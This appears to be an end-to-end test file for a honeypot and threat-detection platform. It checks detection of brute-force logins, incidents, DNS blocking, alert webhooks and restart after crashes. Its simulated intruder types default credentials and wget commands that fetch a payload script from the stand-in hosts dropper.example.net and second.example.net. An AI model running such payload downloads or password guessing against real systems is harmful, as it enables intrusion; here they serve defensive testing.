// The main job, as a newcomer meets it: attack a honeypot, see the incident, list what it used, get blocked, read why.
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { connect } from 'node:net';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Finding } from '#model/record/finding.ts';
import type { Incident } from '#model/record/incident.ts';
import type { Indicator } from '#model/record/indicator.ts';
import { ApiClient, freePort, getAs, hinomi, type Platform, startPlatform, until } from './platform.ts';

const run = promisify(execFile);
let platform: Platform;
let api: ApiClient;
let telnet: number;

beforeAll(async () => {
  telnet = await freePort();
  const ports = ['ssh', 'http', 'https', 'dns', 'ntp', 'ssdp', 'snmp', 'cldap', 'memcached', 'chargen'].map(
    id => `${id}=0`,
  );
  platform = await startPlatform(['--agent-ports', [...ports, `telnet=${telnet}`].join(',')]);
  api = new ApiClient(platform.ready.url);
  await api.setUp(platform.ready.setup!);
}, 150_000);

afterAll(() => platform?.stop(), 60_000);

const dig = async (name: string): Promise<string> => {
  const { stdout } = await run('dig', [
    '@127.0.0.1',
    '-p',
    String(platform.ports.resolver),
    '+time=2',
    '+tries=1',
    name,
    'A',
  ]).catch((error: { stdout?: string }) => ({ stdout: error.stdout ?? '' }));
  return stdout;
};

/** Types lines into the Telnet bait, each when the bait has said something. */
const typeInto = (lines: string[]): Promise<string> =>
  new Promise((resolve, reject) => {
    const socket = connect(telnet, '127.0.0.1');
    let heard = '';
    const rest = [...lines];
    socket.on('data', chunk => {
      heard += chunk.toString('latin1');
      if (!/[:>$#] ?$/.test(heard.trimEnd())) return;
      const next = rest.shift();
      if (next === undefined) socket.end();
      else socket.write(`${next}\r\n`);
    });
    socket.on('close', () => resolve(heard));
    socket.on('error', reject);
    setTimeout(() => socket.destroy(), 20_000);
  });

test('an intruder at a honeypot becomes findings, an incident and proposals within seconds', async () => {
  for (let attempt = 0; attempt < 3; attempt++)
    await typeInto(['root', `wrong${attempt}`, 'admin', `wrong${attempt}`, 'root', `x${attempt}`]);
  await typeInto(['root', 'root', 'wget http://dropper.example.net/bins/m.sh', 'uname -a', 'exit', 'exit']);
  const findings = await until('a brute-force finding', async () => {
    const { body } = await api.call<{ items: Finding[] }>('GET', '/findings');
    return body.items.some(finding => finding.detector === 'brute-force') && body.items;
  });
  const guessing = findings.find(finding => finding.detector === 'brute-force')!;
  expect(guessing.subjects[0]).toMatchObject({ role: 'attacker', value: '127.0.0.1' });
  expect(guessing.evidence.count).toBeGreaterThanOrEqual(5);
  const download = await until('the download finding', async () => {
    const { body } = await api.call<{ items: Finding[] }>('GET', '/findings?detector=malware-download');
    return body.items[0];
  });
  expect(download.subjects[0]?.value).toBe('http://dropper.example.net/bins/m.sh');
  const incident = await until('an incident with the download', async () => {
    const { body } = await api.call<{ items: Incident[] }>('GET', '/incidents');
    return body.items.find(entry => entry.findings.includes(download.id));
  });
  const { body: chain } = await api.call<{ nodes: { kind: string }[]; edges: unknown[] }>(
    'GET',
    `/incidents/${incident.id}/chain`,
  );
  for (const kind of ['event', 'finding', 'incident', 'indicator'])
    expect(chain.nodes.map(node => node.kind)).toContain(kind);
  const { body: proposed } = await api.call<{ items: Indicator[] }>(
    'GET',
    '/indicators?status=candidate&type=domain',
  );
  expect(proposed.items.map(indicator => indicator.value)).toContain('dropper.example.net');
});

test('what is listed is blocked within a second, the blocked person reads why, and a mistake is reported and mended', async () => {
  expect(await dig('dropper.example.net')).not.toContain('EDE: 1');
  const { body: candidates } = await api.call<{ items: Indicator[] }>(
    'GET',
    '/indicators?type=domain&q=dropper',
  );
  const indicator = candidates.items[0]!;
  const started = Date.now();
  expect((await api.call('PATCH', `/indicators/${indicator.id}`, { status: 'active' })).status).toBe(200);
  await until(
    'the block',
    async () => (await dig('dropper.example.net')).includes('127.0.0.1') || undefined,
    5_000,
  );
  expect(Date.now() - started).toBeLessThan(3_000);
  expect(await dig('dropper.example.net')).toMatch(/EDE: 1[57]/);
  const { text } = await getAs(platform.ports.warning, 'dropper.example.net', { 'accept-language': 'ja' });
  expect(text).toContain('<html lang="ja"');
  expect(text).toContain('dropper[.]example[.]net');
  expect((await api.call('PATCH', `/indicators/${indicator.id}`, { status: 'false-positive' })).status).toBe(
    200,
  );
  await until(
    'the unblock',
    async () => !(await dig('dropper.example.net')).includes('ANSWER: 1') || undefined,
    5_000,
  );
});

test('popular names cannot be listed, and the refusal names the protection', async () => {
  const refused = await api.call<{ code: string }>('POST', '/indicators', {
    value: 'google.com',
    confidence: 90,
    reason: 'test',
    days: 1,
  });
  expect(refused).toMatchObject({ status: 409, body: { code: 'ALLOW_LISTED' } });
});

test('an uploaded log is read in the background, bad lines named, each event led back to its line', async () => {
  const log = [
    '{"ts":1700000000.5,"uid":"C1","id.orig_h":"203.0.113.9","id.orig_p":4000,"id.resp_h":"192.0.2.8","id.resp_p":22,"proto":"tcp","service":"ssh","conn_state":"SF"}',
    'this is no record',
    '{"ts":1700000001.25,"uid":"C2","id.orig_h":"203.0.113.9","id.orig_p":4001,"id.resp_h":"192.0.2.9","id.resp_p":22,"proto":"tcp","conn_state":"S0"}',
  ].join('\n');
  const { body: accepted } = await api.call<{ id: string }>(
    'POST',
    '/inputs?name=conn.log&format=zeek',
    Buffer.from(log),
  );
  const input = await until('the input', async () => {
    const { body } = await api.call<{
      status: string;
      events: number;
      skipped: { at: string }[];
      skippedCount: number;
    }>('GET', `/inputs/${accepted.id}`);
    return body.status === 'done' ? body : undefined;
  });
  expect(input).toMatchObject({ events: 2, skippedCount: 1, skipped: [{ at: 'line 2' }] });
  const { body: found } = await api.call<{ items: { 'event.id': string }[] }>(
    'GET',
    `/events?q=${encodeURIComponent('hinomi.session:C2')}`,
  );
  const { body: evidence } = await api.call<{ kind: string; record: number; text: string }>(
    'GET',
    `/events/${found.items[0]!['event.id']}/evidence`,
  );
  expect(evidence).toMatchObject({ kind: 'line', record: 3 });
  expect(evidence.text).toContain('"uid":"C2"');
  // The same content again is the same input: nothing is stored twice.
  const { body: again } = await api.call<{ id: string; status: string }>(
    'POST',
    '/inputs?name=other.log&format=zeek',
    Buffer.from(log),
  );
  expect(again).toMatchObject({ id: accepted.id, status: 'done' });
});

test('an alert goes to a webhook, signed, and its link acknowledges it', async () => {
  const received: { body: string; signature: string }[] = [];
  const receiver = createServer((request, response) => {
    let body = '';
    request.on('data', chunk => {
      body += String(chunk);
    });
    request.on('end', () => {
      received.push({ body, signature: String(request.headers['x-hinomi-signature']) });
      response.end();
    });
  });
  await new Promise<void>(resolve => receiver.listen(0, '127.0.0.1', resolve));
  const { port } = receiver.address() as { port: number };
  try {
    const channel = await api.call('POST', '/alert-channels', {
      name: 'SOC',
      kind: 'webhook',
      target: `http://127.0.0.1:${port}/hook`,
      language: 'en',
      enabled: true,
      minSeverity: 0,
      classes: [],
      prefixes: [],
      tlp: 'red',
    });
    expect(channel.status).toBe(201);
    await typeInto(['admin', 'admin', 'wget http://second.example.net/x', 'exit']);
    const alert = await until('the webhook', async () =>
      received.find(({ body }) => body.includes('hinomi.incident')),
    );
    expect(alert.signature).toMatch(/^t=\d+,v1=[0-9a-f]{64}$/);
    const { links } = JSON.parse(alert.body) as { links: { acknowledge: string } };
    const page = await fetch(links.acknowledge);
    expect(page.status).toBe(200);
    const acknowledged = await fetch(`${links.acknowledge}/acknowledge`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    });
    expect(acknowledged.status).toBe(200);
    const { body } = await api.call<{ items: { status: string }[] }>('GET', '/alerts');
    expect(body.items.map(entry => entry.status)).toContain('acknowledged');
  } finally {
    receiver.close();
  }
});

test('each process killed comes back without a hand, and nothing stored is lost', async () => {
  const count = async () => {
    const { body } = await api.call<{ rows?: [[number]] }>('POST', '/query', {
      sql: 'SELECT count() FROM events',
    });
    return Number(body.rows?.[0][0] ?? -1);
  };
  const before = await count();
  for (const name of ['agent', 'dns', 'server', 'store']) {
    const state = () =>
      JSON.parse(readFileSync(join(platform.data, 'run', 'processes.json'), 'utf8')) as {
        processes: { name: string; pid: number; state: string; restarts: number }[];
      };
    const { pid, restarts } = state().processes.find(entry => entry.name === name)!;
    process.kill(pid, 'SIGKILL');
    await until(`${name} to come back`, async () => {
      const now = state().processes.find(entry => entry.name === name)!;
      return now.state === 'up' && now.restarts > restarts && now.pid !== pid;
    });
  }
  await until(
    'health',
    async () => (await fetch(`${platform.ready.url}/healthz`).catch(() => undefined))?.ok,
  );
  expect(
    await until('the count', async () => (await count()) >= before && (await count())),
  ).toBeGreaterThanOrEqual(before);
});

test('the command line works beside the running platform', async () => {
  const answer = await hinomi(['query', 'SELECT count() AS n FROM events', '--json', ...platform.flags]);
  expect(answer.code).toBe(0);
  expect(Number((JSON.parse(answer.stdout) as { rows: [[number]] }).rows[0][0])).toBeGreaterThan(0);
  const second = await hinomi(['up', '--json', ...platform.flags]);
  expect(second.code).toBe(1);
  expect(second.stderr).toContain('ALREADY_RUNNING');
});
